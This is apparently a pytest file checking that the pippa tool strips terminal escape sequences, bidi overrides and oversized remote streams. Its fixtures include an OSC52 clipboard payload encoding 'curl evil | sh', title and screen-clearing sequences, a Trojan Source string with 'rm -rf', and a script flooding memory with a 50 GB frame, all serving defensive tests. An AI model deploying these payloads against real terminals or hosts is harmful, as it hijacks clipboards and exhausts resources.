"""The laptop never executes a host's bytes (issue 35): escape sequences in a run's log reach a
terminal stripped (text, newlines, tabs and colours stay), a pipe or ``--raw`` byte for byte; host
strings in tables are escaped; a pull never lets the host size this machine's memory or disk."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest
from projects import make_project

from pippa_contract.termsafe import TerminalText, escape, terminal_text
from pippa_ops.errors import RemoteCommandFailed
from pippa_ops.runs.moving.pull import PART, _receive
from pippa_ops.transport.base import LocalTransport

PIPPA = str(Path(sys.executable).with_name("pippa"))
OSC52 = b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # writes "curl evil | sh" to the clipboard
OSC0 = b"\x1b]0;pwned\x1b\\"  # the window title
CSI2J = b"\x1b[2J\x1b[H"  # clear the screen, cursor home
LOG = b"step 1\n" + OSC52 + b"step 2 " + OSC0 + b"\x1b[32mgreen\x1b[0m\tdone\n" + CSI2J + b"step 3\n"
SAFE = "step 1\nstep 2 \x1b[32mgreen\x1b[0m\tdone\nstep 3\n"


def test_terminal_text_keeps_text_tabs_newlines_and_colour_only() -> None:
    assert terminal_text(LOG) == SAFE
    t = TerminalText()  # the same when the stream comes a byte at a time (sequences split anywhere)
    assert "".join(t.feed(LOG[i : i + 1]) for i in range(len(LOG))) + t.close() == SAFE
    assert terminal_text(b"a\x1b[31;1mb\x1bc\x1b(0\x9b\x07\x7fc\r\nd\rE") == "a\x1b[31;1mb\ufffdc\nd\nE"
    assert terminal_text(b"\x1b[32mx", keep_sgr=False) == "x"
    assert escape("run\x1b]0;t\x07 \nx") == "run\\x1b]0;t\\x07 \\nx" and escape("plain") == "plain"


def test_one_rule_for_bidi_overrides_in_streams_tables_and_samples() -> None:
    """A right-to-left override (U+202E, "Trojan Source") or an isolate reorders what the screen shows:
    dropped from a log stream, shown escaped in a table cell, a notice and a sample (one rule, termsafe)."""
    from pippa_ops.runs.reading.samples import escape as sample_escape

    evil = "rm -rf /tmp/x \u202e#gnp.tac\u2066 ok"
    assert terminal_text(evil.encode()) == "rm -rf /tmp/x #gnp.tac ok"
    t = TerminalText()  # split inside the three bytes of U+202E: still dropped
    data = evil.encode()
    assert (
        "".join(t.feed(data[i : i + 1]) for i in range(len(data))) + t.close() == "rm -rf /tmp/x #gnp.tac ok"
    )
    assert escape(evil) == "rm -rf /tmp/x \\u202e#gnp.tac\\u2066 ok"
    assert sample_escape("line\u202e1\n\tline 2 é") == "line\\u202e1\n    line 2 é"
    assert escape("zero\u200bwidth") == "zero\\u200bwidth" and escape("héllo 😀") == "héllo 😀"


def _local_run(tmp_path: Path, log: bytes) -> tuple[Path, dict[str, str], str]:
    """A project dir (a git repo: `local`'s runs live in it) holding one ended run with ``log``."""
    repo = make_project(tmp_path / "proj")
    run_id = "20260101-000000-evil-0001"
    d = repo / "runs" / run_id
    d.mkdir(parents=True)
    (d / "run.json").write_text(json.dumps({"run_id": run_id, "session": "evil", "command": "true"}))
    (d / "output.log").write_bytes(log)
    (d / "exit_code").write_text("0")
    home = tmp_path / "home"
    home.mkdir()
    env = {k: v for k, v in os.environ.items() if k not in ("PIPPA_INVENTORY", "TMUX")}
    env.update(HOME=str(home), XDG_CONFIG_HOME=str(home / ".config"), TMUX_TMPDIR=str(home))
    return repo, env, run_id


def _under_pty(argv: list[str], cwd: Path, env: dict[str, str]) -> tuple[int, bytes]:
    """Run ``argv`` with a terminal as its stdout (a pty), as a person's shell would; all it wrote."""
    main, sub = pty.openpty()
    p = subprocess.Popen(argv, cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=sub, stderr=subprocess.PIPE)
    os.close(sub)
    out = bytearray()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        ready, _, _ = select.select([main], [], [], 0.5)
        if ready:
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the other side closed
                break
            if not chunk:
                break
            out += chunk
        elif p.poll() is not None:
            break
    os.close(main)
    p.wait(timeout=30)
    return p.returncode, bytes(out)


def test_pippa_logs_on_a_terminal_strips_escape_sequences_a_pipe_and_raw_keep_them(tmp_path: Path) -> None:
    repo, env, run_id = _local_run(tmp_path, LOG)
    rc, shown = _under_pty([PIPPA, "logs", run_id, "--host", "local"], repo, env)
    assert rc == 0, shown
    text = shown.replace(b"\r\n", b"\n")  # the pty's line discipline turns \n into \r\n
    assert b"\x1b]" not in text and b"\x1b[2J" not in text and b"\x1b[H" not in text
    assert text.decode() == SAFE
    rc, raw = _under_pty([PIPPA, "logs", run_id, "--host", "local", "--raw"], repo, env)
    assert rc == 0 and raw.replace(b"\r\n", b"\n") == LOG
    piped = subprocess.run(
        [PIPPA, "logs", run_id, "--host", "local"], cwd=repo, env=env, capture_output=True, timeout=60
    )
    assert piped.returncode == 0 and piped.stdout == LOG


HOSTILE = r"""
import sys
out = sys.stdout.buffer
out.write(b"%d\n" % (50 << 30))  # a frame of 50 GB announced
while True:
    out.write(b"x" * (1 << 20))
"""


def _hostile_stream(tmp_path: Path, manifest_size: int, code: str) -> tuple[Exception, Path, int]:
    t = LocalTransport("evil")
    dest = tmp_path / "pulled"
    tracemalloc.start()
    with t.start([sys.executable, "-c", code]) as proc:
        with pytest.raises(RemoteCommandFailed) as e:
            _receive(proc, {"files": [["big.bin", manifest_size, 0, 0]], "send": manifest_size}, dest, None)
        proc.kill()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return e.value, dest, peak


def test_a_pull_from_a_host_announcing_a_50_gb_frame_stops_with_one_line(tmp_path: Path) -> None:
    err, dest, peak = _hostile_stream(tmp_path, 50 << 30, HOSTILE)
    line = str(err)
    assert "\n" not in line and "frame of 53687091200 bytes" in line and "refused" in line
    assert not (dest / "big.bin").exists() and not list(dest.rglob(f"{PART}*"))
    assert peak < 8 << 20  # bytes this process held: never the frame


def test_a_pull_refuses_more_than_the_manifest_announced_or_the_cap(tmp_path: Path) -> None:
    endless = (
        "import sys\nout = sys.stdout.buffer\nwhile True:\n"
        "    out.write(b'%d\\n' % (1 << 20) + b'x' * (1 << 20))\n"
    )
    err, dest, peak = _hostile_stream(tmp_path, 100, endless)  # 100 bytes announced, 1 MiB frames sent
    assert "more of big.bin than its manifest announced" in str(err)
    assert not list(dest.rglob("*.bin")) and not list(dest.rglob(f"{PART}*")) and peak < 8 << 20
    with pytest.raises(RemoteCommandFailed, match="over the cap of 1000"):
        _receive(
            LocalTransport("evil").start(["true"]),
            {"files": [["a", 5000, 0, 0]], "send": 5000},
            tmp_path / "p2",
            None,
            max_bytes=1000,
        )
    with pytest.raises(RemoteCommandFailed, match="announces 10 bytes but lists 5000"):
        _receive(
            LocalTransport("evil").start(["true"]),
            {"files": [["a", 5000, 0, 0]], "send": 10},
            tmp_path / "p3",
            None,
        )


def test_host_strings_in_tables_show_escaped() -> None:
    from pippa_ops.cli.table import Column, layout

    lines = layout(
        [Column("RUN"), Column("RECIPE/COMMAND", flex=True)],
        [["r1", "python x.py \x1b]52;c;eA==\x07 \x1b[2J"]],
        200,
    )
    assert "\x1b" not in "".join(lines) and "\\x1b]52;c;eA==\\x07" in lines[1]


def test_the_dashboard_log_panes_show_plain_text() -> None:
    from pippa_ops.monitor.state import LogTail

    tail = LogTail()
    tail.feed(LOG + b"50%\r100%\r\nlast \x1b]0;t\x07")
    assert tail.tail() == ("step 1", "step 2 green\tdone", "step 3", "100%", "last ")


def test_an_error_quoting_a_host_reaches_the_terminal_without_its_escape_sequences(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The one line an error ends with may quote a host's stderr: its escape sequences are dropped."""
    from pippa_ops.cli.typer_app import fail
    from pippa_ops.errors import ExitCode

    with pytest.raises(SystemExit) as e:
        fail("h1: training failed: " + LOG.decode(), ExitCode.FAILURE)
    assert e.value.code == int(ExitCode.FAILURE)
    err = capsys.readouterr().err
    assert "\x1b" not in err and err.startswith("pippa: h1: training failed: step 1")


def test_gpu_and_process_names_from_a_host_are_escaped() -> None:
    from pippa_ops.gpu import parse_apps, parse_gpus_csv

    (gpu,) = parse_gpus_csv("index, name\n0, H100\x1b]0;pwned\x07\n")
    assert gpu.name == "H100\\x1b]0;pwned\\x07"
    ((_uuid, proc),) = parse_apps("GPU-1, 42, python\x1b[2J, 100\n")
    assert proc.name == "python\\x1b[2J"
